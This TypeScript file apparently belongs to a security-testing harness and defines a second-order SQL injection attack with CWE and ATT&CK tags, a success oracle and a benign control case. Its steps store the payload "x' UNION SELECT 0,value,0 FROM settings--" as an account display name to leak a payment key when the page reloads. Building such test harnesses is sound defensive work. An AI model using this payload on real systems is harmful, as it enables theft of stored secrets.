import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attackerAccount, logIn } from '../../attack/attacker.ts'

/** Stores a name that turns into SQL when the account page reads it back. */
export const sqlSecondOrder: Attack = defineAttack({
  id: 'sql-second-order',
  class: 'sql-injection',
  title: 'Stores a name that turns into SQL when the account page reads it back',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [attackerAccount],

  steps: async ({ visitor }) => {
    await logIn(visitor)
    await visitor.form('/account', { display: "x' UNION SELECT 0,value,0 FROM settings--" })
    return visitor.get('/account')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    return visitor.form('/account', { display: "Mallory O'Neill" })
  },
})
